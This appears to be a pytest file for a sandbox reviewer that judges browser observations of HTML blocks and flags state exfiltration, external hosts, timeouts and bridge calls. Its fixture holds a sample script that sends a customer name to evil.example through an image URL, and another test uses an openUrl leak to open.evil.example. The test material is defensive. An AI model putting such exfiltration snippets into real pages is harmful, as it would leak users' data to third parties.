"""The review's judge without a browser: hand-made observations in, findings out.

The judge (sandbox/review/browser/judge.py) reads the block and one frozen BlockObservation per
engine and nothing else, so every rule it applies is a plain function call here: a canary in a
request, a host contacted, what one engine saw and another did not, a block that hung its page,
an engine that failed, the differential review's confirmed leak, the bridge calls.
"""

from __future__ import annotations

import dataclasses
from types import MappingProxyType

import pytest

from flowui_sandbox.sandbox.review.browser.canaries import Canaries, CanaryTable
from flowui_sandbox.sandbox.review.browser.differential import events
from flowui_sandbox.sandbox.review.browser.judge import judge
from flowui_sandbox.sandbox.review.browser.observation import (
    BlockObservation,
    DifferentialLeak,
    DifferentialOutcome,
    HostReport,
    Instability,
    RunActions,
)
from flowui_sandbox.sandbox.review.browser.proxy import Seen
from flowui_sandbox.sandbox.review.browser.run import Work

SOURCE = ('<p data-bind="customer.name"></p>\n'
          "<script>\n  new Image().src = 'https://evil.example/p.gif?n=' + encodeURIComponent(flowUi.get('customer.name'));\n"
          "</script>\n<img src=\"https://cdn.example.com/logo.png\" alt=\"\">\n")
NAME = "Anna Bertholm"  # the canary standing for customer.name
CANARIES = CanaryTable({NAME: "customer.name"}, {"48213377": "order.total"})
CONNECTED = {"status": "connected", "connected": "connected", "loads": 1, "maxGap": 40, "actions": [], "values": [],
             "urls": [], "log": [], "heights": [120], "errors": []}


def work(source: str = SOURCE) -> Work:
    return Work(0, "block.html", source, ["customer.name"], ["customer.name"], {"customer": {"name": "Ann"}}, None,
                {"color-scheme": "dark"}, {"color-scheme": "light"}, ("#fff", "#000"))


def request(host: str, path: str, query: str = "", dest: str = "image") -> Seen:
    return Seen("https", host, "GET", path, query, {"Sec-Fetch-Dest": dest}, b"", at=1.0)


LEAK = request("evil.example", "/p.gif", "n=Anna%20Bertholm")
LOGO = request("cdn.example.com", "/logo.png")


def observe(engine: str = "chromium", **fields) -> BlockObservation:
    fields.setdefault("host", HostReport.of(CONNECTED))
    return BlockObservation(engine, CANARIES, **fields)


def rules(result) -> list[str]:
    return sorted(f.rule for f in result.findings)


def test_a_canary_in_an_external_image_url_is_exfiltration_with_its_path_and_host():
    result = judge(work(), {"chromium": observe(requests=(LEAK,))})
    leak = next(f for f in result.findings if f.rule == "exfil.state-to-url")
    assert leak.paths == ["customer.name"] and leak.hosts == ["evil.example"] and leak.engines == ["chromium"]
    assert leak.evidence["encoding"] == "percent-encoded" and leak.evidence["sink"] == "image request"
    assert (leak.line, leak.column) == (3, 22)  # where the source names the URL
    assert result.requests == [{"engine": "chromium", "url": LEAK.url, "host": "evil.example", "method": "GET", "kind": "image",
                                "paths": ["customer.name"]}]


def test_a_request_with_no_canary_is_a_host_contacted_only():
    result = judge(work(), {"chromium": observe(requests=(LOGO,))})
    assert rules(result) == ["url.external"]
    (found,) = result.findings
    assert found.hosts == ["cdn.example.com"] and found.message == "host cdn.example.com contacted (1 request(s))"
    assert found.evidence["urls"] == ["https://cdn.example.com/logo.png"]


def test_a_request_to_an_ipv6_address_is_named_by_its_address():
    """An IPv6 literal's Host header (``[::1]:9443``, a request to this machine) names the host
    ``[::1]`` in every finding, and the differential review's leak on it makes a URL that parses
    (a host cut at the first colon, ``[``, made ``https://[/``, on which the judge raised)."""
    quiet, carrying = request("[::1]:9443", "/d"), request("[::1]:9443", "/c", "t=9f2c")
    result = judge(work(), {"chromium": observe(requests=(quiet,))})
    assert [(f.rule, f.hosts, f.message) for f in result.findings] == [
        ("url.external", ["[::1]"], "host [::1] contacted (1 request(s))"),
        ("url.private-network", ["[::1]"], "host [::1] requested: this machine (1 request(s))")]
    (event,) = events([carrying], None, {}).events
    assert event.host == "[::1]"
    diff = DifferentialOutcome(runs=3, leaks=(DifferentialLeak("request", event.host, ("order.total",), event.text),))
    result = judge(work(), {"chromium": observe(differential=diff)})
    assert [(f.rule, f.hosts, f.paths) for f in result.findings] == [("exfil.state-to-url", ["[::1]"], ["order.total"])]


def test_a_finding_belongs_to_the_engines_that_saw_it():
    result = judge(work(), {"chromium": observe(requests=(LEAK, LOGO)), "firefox": observe("firefox", requests=(LOGO,))})
    engines = {f.rule: f.engines for f in result.findings}
    assert engines == {"exfil.state-to-url": ["chromium"], "url.external": ["chromium", "firefox"]}
    assert [r["engine"] for r in result.requests] == ["chromium", "chromium", "firefox"]


def test_a_block_that_hung_its_page_is_a_time_limit_finding():
    hung = observe("webkit", timed_out=True, host=HostReport(), actions=("click <button> #0",), steps={"load": 0.2, "watchdog": "no answer"})
    result = judge(work(), {"webkit": hung})
    assert rules(result) == ["browser.timeout"] and result.timed_out == ["webkit"]
    (found,) = result.findings
    assert found.engines == ["webkit"]
    assert found.evidence["steps"] == {"load": 0.2, "watchdog": "no answer"} and found.evidence["actions"] == ["click <button> #0"]


def test_an_engine_that_failed_gives_its_error_and_no_findings():
    failed = BlockObservation("firefox", error="no page: EngineError: the browser is gone")
    result = judge(work(), {"firefox": failed})
    assert result.findings == [] and result.timed_out == []
    assert result.errors == [{"engine": "firefox", "message": "no page: EngineError: the browser is gone"}]


def test_the_differential_reviews_confirmed_leak_is_a_finding():
    diff = DifferentialOutcome(runs=4, leaks=(DifferentialLeak("request", "t.example", ("order.total",), "GET /c?h=9f2c 1"),
                                              DifferentialLeak("send", "save", ("order.total",), '{"h": "9f2c"}')),
                               deviation=("request:t.example", "send:save"), confirmed=("request:t.example", "send:save"), seconds=2.5)
    result = judge(work(), {"chromium": observe(differential=diff)})
    assert rules(result) == ["exfil.state-to-url"]  # the send is the host's: bridge.send names it, not a leak
    (found,) = result.findings
    assert found.paths == ["order.total"] and found.hosts == ["t.example"]
    assert found.evidence["encoding"] == "changes with the data (differential review)"
    assert found.evidence["differential"] == {"runs": 4, "example": "GET /c?h=9f2c 1"}
    assert result.differential == [{"engine": "chromium", "runs": 4, "unstable": [], "seconds": 2.5,
                                    "leaks": [{"kind": "request", "host": "t.example", "inputs": ["order.total"], "example": "GET /c?h=9f2c 1"},
                                              {"kind": "send", "host": "save", "inputs": ["order.total"], "example": '{"h": "9f2c"}'}],
                                    "deviation": ["request:t.example", "send:save"], "confirmed": ["request:t.example", "send:save"]}]


def test_a_leak_no_single_input_explains_and_an_unstable_block():
    diff = DifferentialOutcome(runs=3, leaks=(DifferentialLeak("request", "u.example", ("(unattributed)",), "GET /u 1"),),
                               unstable=(Instability("sent in one of two runs with the same data", "request", "r.example", "GET /r"),))
    result = judge(work(), {"chromium": observe(differential=diff)})
    assert rules(result) == ["browser.inconsistent", "exfil.state-to-url"]
    leak = next(f for f in result.findings if f.rule == "exfil.state-to-url")
    assert leak.paths == [] and "no single input explains it" in leak.message
    odd = next(f for f in result.findings if f.rule == "browser.inconsistent")
    assert odd.evidence["unstable"] == [{"what": "sent in one of two runs with the same data", "kind": "request", "host": "r.example",
                                         "text": "GET /r"}]
    assert "actions" not in odd.evidence
    # With what the user did in both same-data runs (the lane keeps them when they behaved differently).
    acted = RunActions(("click <button> #0",), ("click <button> #0 failed: the element is gone or has no box",))
    result = judge(work(), {"chromium": observe(differential=dataclasses.replace(diff, unstable_actions=acted))})
    odd = next(f for f in result.findings if f.rule == "browser.inconsistent")
    assert odd.evidence["actions"] == {"first": ["click <button> #0"],
                                       "then": ["click <button> #0 failed: the element is gone or has no box"]}


def test_bridge_calls_are_reported_as_plain_json_with_the_paths_they_carry():
    raw = dict(CONNECTED, actions=[{"action": "save", "payload": {"who": NAME, "items": [1, 2]}}],
               values=[{"path": "customer.name", "value": ["a", {"b": 1}]}])
    result = judge(work(), {"chromium": observe(host=HostReport.of(raw))})
    send = next(f for f in result.findings if f.rule == "bridge.send")
    assert send.paths == ["customer.name"] and send.evidence["payload_shape"] == {"who": "string", "items": ["number"]}
    assert result.bridge == [{"engine": "chromium", "type": "send", "action": "save", "payload": {"who": "string", "items": ["number"]}},
                             {"engine": "chromium", "type": "setValue", "path": "customer.name", "value": ["a", {"b": 1}]}]
    assert type(result.bridge[1]["value"]) is list  # the report holds JSON, not the observation's frozen form
    write = next(f for f in result.findings if f.rule == "bridge.set-value")
    assert write.message == """setValue('customer.name', ["a", {"b": 1}])"""


def test_an_open_url_the_host_refused_for_want_of_the_users_activation_is_still_what_the_block_asked():
    """On a loaded machine the simulated user's pointer can have moved on when the block's request
    reaches the host (WebKitGTK, the corpus's first pass): the host refuses with no-gesture; the
    block asked all the same."""
    leak = f"https://open.evil.example/d?n={NAME.replace(' ', '%20')}"
    refusal = {"level": "warn", "code": "no-gesture", "message": "openUrl needs a user gesture in this block: ...",
               "detail": {"url": leak}}
    raw = dict(CONNECTED, log=[refusal, dict(refusal, detail={})], urls=[{"url": "https://help.example.com/a"}])
    result = judge(work(), {"webkit": observe("webkit", host=HostReport.of(raw))})
    assert result.bridge == [{"engine": "webkit", "type": "openUrl", "url": "https://help.example.com/a"},
                             {"engine": "webkit", "type": "openUrl", "url": leak, "refused": "no-gesture"}]
    opens = sorted(f.message for f in result.findings if f.rule == "bridge.open-url")
    assert opens == ["openUrl to help.example.com", "openUrl to open.evil.example"]
    exfil = [f for f in result.findings if f.rule == "exfil.state-to-url" and "open.evil.example" in f.hosts]
    assert exfil and exfil[0].paths == ["customer.name"], result.findings


def test_a_block_that_never_connected_and_a_stalled_host_page():
    never = dict(CONNECTED, status="not-connected", connected="not connected within 5 s", errors=["mount: x"])
    result = judge(work(), {"chromium": observe(host=HostReport.of(never))})
    (found,) = result.findings
    assert found.rule == "browser.not-connected" and found.evidence["errors"] == ["mount: x"]
    assert "not connected within 5 s" in found.message
    stalled = judge(work(), {"chromium": observe(host=HostReport.of(dict(CONNECTED, maxGap=4200)))})
    assert [f.message for f in stalled.findings] == ["the host page's main thread stalled for 4200 ms"]
    # A host page that never answered is no finding of its own (the engine's error or time-out says why).
    assert judge(work(), {"chromium": observe(host=HostReport.of({}))}).findings == []


def test_a_block_that_posted_past_its_runtime_lost_its_bridge_and_is_no_unconnected_block():
    closed = dict(CONNECTED, status="closed", log=[{"level": "error", "code": "bridge-closed", "message": "the block posted a "
                                                   "message its runtime never sends (too-large) on the bridge's port"}])
    result = judge(work(), {"chromium": observe(host=HostReport.of(closed))})
    assert rules(result) == ["browser.bridge-closed"], result.findings


def test_the_judge_leaves_its_inputs_as_they_were_and_says_the_same_twice():
    def inputs():
        diff = DifferentialOutcome(runs=4, leaks=(DifferentialLeak("request", "t.example", ("order.total",), "GET /c 1"),))
        raw = dict(CONNECTED, actions=[{"action": "save", "payload": {"who": NAME}}])
        return work(), {"chromium": observe(requests=(LEAK, LOGO), host=HostReport.of(raw), differential=diff,
                                            screenshots={"light": "iVBO"}, steps={"load": 0.1}),
                        "firefox": observe("firefox", timed_out=True, actions=("type <input> #0",))}

    block, per_engine = inputs()
    first = judge(block, per_engine)
    assert (block, per_engine) == inputs()
    assert judge(block, per_engine) == first
    first.screenshots["chromium"]["light"] = "changed"  # the result is the caller's: the observation is not in it
    assert per_engine["chromium"].screenshots == {"light": "iVBO"}


def test_observations_are_frozen():
    obs = observe(requests=(LEAK,), host=HostReport.of(dict(CONNECTED, actions=[{"action": "a", "payload": {"k": [1]}}])),
                  steps={"load": 0.1}, screenshots={"light": "x"})
    with pytest.raises(dataclasses.FrozenInstanceError):
        obs.timed_out = True  # type: ignore[misc]
    with pytest.raises(dataclasses.FrozenInstanceError):
        obs.host.status = "navigated"  # type: ignore[misc]
    with pytest.raises(dataclasses.FrozenInstanceError):
        obs.requests[0].path = "/other"  # type: ignore[misc]
    with pytest.raises(TypeError):
        obs.steps["load"] = 9  # type: ignore[index]
    with pytest.raises(TypeError):
        obs.screenshots["dark"] = "y"  # type: ignore[index]
    with pytest.raises(TypeError):
        obs.requests[0].headers["Sec-Fetch-Dest"] = "document"  # type: ignore[index]
    with pytest.raises(TypeError):
        obs.host.sends[0].payload["k"] = 2
    assert obs.host.sends[0].payload["k"] == (1,)
    with pytest.raises(TypeError):
        obs.canaries.strings["x"] = "y"  # type: ignore[index]
    assert isinstance(obs.steps, MappingProxyType)


def test_a_recordings_canaries_are_frozen_as_they_stand():
    canaries = Canaries("seed-1")
    state = canaries.state({"customer": {"name": "Ann Lee"}}, ["customer.name"])
    table = canaries.table()
    canaries.typed("(typed into <input> #0)")
    assert table.find(state["customer"]["name"]) == {"customer.name": "as sent"}
    assert len(table.strings) == 1 and len(canaries.strings) == 2
